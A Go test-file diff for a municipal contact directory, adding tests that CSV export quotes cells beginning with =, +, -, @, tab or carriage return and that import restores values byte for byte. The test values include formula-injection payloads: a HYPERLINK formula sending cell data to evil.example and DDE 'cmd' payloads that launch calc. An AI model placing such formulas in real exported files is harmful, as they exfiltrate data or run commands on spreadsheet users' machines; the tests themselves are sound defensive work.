@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/csv"
 	"errors"
+	"fmt"
 	"slices"
 	"strings"
 	"testing"
@@ -228,6 +229,102 @@ func TestImport_OfAnExportRestoresEverythingAnEntryHas(t *testing.T) {
 	require.Equal(t, "Försäkringskassan\nBox 1164, 651 11 Karlstad", fk.Channels[3].Value)
 	eb := read(t, b.db.Pool, demo.ID("org/karlstad"))[demo.ID("entry/eb-karlstad")]
 	require.Equal(t, demo.ID("entry/fk-nationell"), *eb.FallbackEntryID, "a fallback at another organisation")
+}
+
+func TestExportImport_CellsASpreadsheetWouldRunAreQuotedAndComeBackByteForByte(t *testing.T) {
+	t.Parallel()
+	ctx, b := setup(t)
+	org := demo.ID("org/karlstad")
+	// Formulas, values that only look like them, and values that start
+	// with the quote itself.
+	values := []string{
+		`=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)`,
+		`+1+cmd|' /C calc'!A0`, `-2+3`, `+46 771 524 524`, `'t Hooft`, `''två citattecken`, `'=1+1`,
+	}
+	var fallback *uuid.UUID
+	for _, v := range values {
+		id := save(t, b.db.Pool, org, directory.EntryInput{
+			FunctionName: v, Description: v, Topics: []directory.Topic{"EKONOMISKT_BISTAND"}, TargetGroups: []string{v, "unga vuxna"},
+			MunicipalityCodes: []string{"1780"}, Visibility: directory.Federation, ExpectedAnswer: &v,
+			FallbackEntryID: fallback, ContactPersons: []string{v},
+			Channels: []directory.Channel{{Kind: directory.Phone, Value: "+46 771 524 524", Note: v, Visibility: directory.Federation}},
+		})
+		fallback = &id // the next falls back on this one, written by its name
+	}
+	// A tab or carriage return at the start of a description or expected
+	// answer comes back too (list items and names are trimmed).
+	tab, cr := "\t=1+1", "\r=1+1"
+	save(t, b.db.Pool, org, directory.EntryInput{
+		FunctionName: "Blanksteg först", Description: tab, Topics: []directory.Topic{"EKONOMISKT_BISTAND"},
+		MunicipalityCodes: []string{"1780"}, Visibility: directory.Federation, ExpectedAnswer: &cr,
+	})
+
+	before := read(t, b.db.Pool, org)
+	file := export(t, b.db.Pool, org)
+	byName := map[string][]string{}
+	for _, r := range records(t, file)[1:] {
+		for j, cell := range r {
+			if cell != "" {
+				require.NotContains(t, "=+-@\t\r", cell[:1], "column %s: %q", directory.CSVHeader[j], cell)
+			}
+		}
+		byName[r[0]] = r
+	}
+	for _, v := range values {
+		require.Equal(t, "'"+v, byName["'"+v][slices.Index(directory.CSVHeader, "description")], "export quotes %q", v)
+	}
+	require.Contains(t, byName, "'+46 771 524 524")
+	require.Contains(t, byName, "''t Hooft", "a value starting with ' gets another")
+
+	// Emptied, the entries come back from the file byte for byte.
+	_, err := b.db.Pool.Exec(ctx, `UPDATE directory_entries SET function_name = 'tömd ' || id, description = '',
+		target_groups = '{}', expected_answer = NULL, fallback_entry_id = NULL, contact_persons = '{}' WHERE org_id = $1`, org)
+	require.NoError(t, err)
+	_, err = b.db.Pool.Exec(ctx, `DELETE FROM directory_channels WHERE org_id = $1`, org)
+	require.NoError(t, err)
+	res, err := importFile(t, b.db.Pool, org, file)
+	require.NoError(t, err)
+	require.Equal(t, directory.ImportResult{Changed: len(before)}, res)
+	after := read(t, b.db.Pool, org)
+	for id, e := range before {
+		got := after[id]
+		got.ReviewedAt, got.ReviewedBy = e.ReviewedAt, e.ReviewedBy
+		for i := range got.Channels {
+			got.Channels[i].ID = e.Channels[i].ID
+		}
+		require.Equal(t, e, got)
+	}
+	require.Equal(t, file, export(t, b.db.Pool, org), "export → import → export gives the same bytes")
+}
+
+func TestImport_TakesOffExactlyOneLeadingQuoteOfACell(t *testing.T) {
+	t.Parallel()
+	_, b := setup(t)
+	org := demo.ID("org/karlstad")
+	cases := []struct{ cell, value, why string }{
+		{`'+46 771 524 524`, `+46 771 524 524`, "as export writes it"},
+		{`+46 771 524 524`, `+46 771 524 524`, "a spreadsheet that dropped the quote"},
+		{`'=1+1`, `=1+1`, "as export writes it"},
+		{`=1+1`, `=1+1`, "a spreadsheet that dropped the quote"},
+		{`''t Hooft`, `'t Hooft`, "as export writes a value starting with '"},
+		{`'t Hooft`, `t Hooft`, "a spreadsheet that dropped one of the two quotes: the value's own is lost"},
+		{`  '-1  `, `-1`, "spaces around the cell go first"},
+		{"'\t-1", "\t-1", "what follows the quote is the value as it is"},
+		{`a'b`, `a'b`, "only the start of a cell counts"},
+	}
+	recs := [][]string{{"function_name", "description", "topics", "municipality_codes", "visibility"}}
+	for i, c := range cases {
+		recs = append(recs, []string{fmt.Sprintf("Citat %d", i), c.cell, "SIP", "1780", "PUBLIC"})
+	}
+	_, err := importFile(t, b.db.Pool, org, writeRecords(t, recs))
+	require.NoError(t, err)
+	description := map[string]string{}
+	for _, e := range read(t, b.db.Pool, org) {
+		description[e.FunctionName] = e.Description
+	}
+	for i, c := range cases {
+		require.Equal(t, c.value, description[fmt.Sprintf("Citat %d", i)], "%q: %s", c.cell, c.why)
+	}
 }
 
 func TestExport_WritesEveryChannelOnItsOwnLineOfTheChannelsCell(t *testing.T) {
